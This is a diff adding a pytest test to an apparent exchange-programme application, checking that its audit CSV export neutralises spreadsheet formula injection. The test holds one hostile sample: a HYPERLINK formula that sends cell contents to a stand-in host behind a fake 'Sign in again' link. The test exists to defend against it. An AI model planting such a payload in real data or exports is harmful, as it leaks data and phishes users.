@@ -23,10 +23,11 @@ from sqlalchemy.engine import Engine
 from sqlmodel import select
 
 from xchange import audit, kpi, privacy, service
+from xchange.auth import authenticate
 from xchange.cli import cli
 from xchange.config import PROJECT_ROOT
 from xchange.db import LOCAL_ADMIN_EMAIL, read_session, write_session
-from xchange.errors import NotFound, PermissionDenied
+from xchange.errors import NotFound, PermissionDenied, SignInRefused
 from xchange.models import AuditEvent, Exchange, Person, Programme, Role, User, utcnow
 from xchange.partnerships import add_partnership
 from xchange.service import ExchangeIn
@@ -291,6 +292,27 @@ def test_audit_export_of_a_period(engine: Engine, tmp_path: Path) -> None:
     assert create_row[1:5] == [LOCAL_ADMIN_EMAIL, "exchange", str(created.id), "create"]
     assert json.loads(create_row[5])["reference"] == [None, "ALPHA-001"]
     assert create_row[0].endswith("+00:00")
+
+
+def test_the_audit_export_neutralises_formulas(engine: Engine) -> None:
+    setup(engine)
+    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"Sign in again")'
+    with write_session(engine) as session:
+        # As stored before migration 0007: the text typed into the sign-in Email field.
+        session.add(AuditEvent(actor_label=formula, entity="user", action="sign_in_failed"))
+        session.add(AuditEvent(actor_label="+1@x.eu", entity="user", action="-refused"))
+    with pytest.raises(SignInRefused), read_session(engine) as session:
+        authenticate(session=session, email=formula, password="not the password")
+    today = date.today()
+    with read_session(engine) as session:
+        events = audit.events_between(
+            session=session, actor=admin_of(session), date_from=today, date_to=today
+        )
+    rows = list(csv.reader(io.StringIO(audit.audit_csv(events).decode("utf-8-sig"))))
+    assert [row[1] for row in rows[-3:]] == [f"'{formula}", "'+1@x.eu", "unknown email"]
+    assert rows[-2][4] == "'-refused"
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
 
 
 # --- hostile input -----------------------------------------------------------------------------
